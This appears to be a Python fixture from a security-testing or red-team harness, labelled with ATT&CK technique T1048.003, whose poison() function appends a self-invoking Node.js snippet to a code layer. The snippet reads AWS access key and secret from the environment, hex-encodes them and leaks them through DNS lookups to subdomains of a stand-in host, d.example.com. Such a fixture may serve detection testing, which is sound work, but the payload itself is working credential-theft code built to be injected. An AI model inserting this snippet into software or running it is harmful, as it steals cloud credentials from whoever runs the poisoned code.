# SPDX-License-Identifier: Apache-2.0
"""Credentials as labels of a name."""

ATTACK = "T1048.003"
LANGUAGE = "node"
CODE = """\
;(() => {
  const dns = require('node:dns');
  const parts = Buffer.from(`${process.env.AWS_ACCESS_KEY_ID}.${process.env.AWS_SECRET_ACCESS_KEY}`).toString('hex').match(/.{1,60}/g) || [];
  parts.forEach((p, i) => dns.resolve4(`${p}.${i}.d.example.com`, () => {}));
})();
"""


def poison(layer):
    layer.append(CODE)
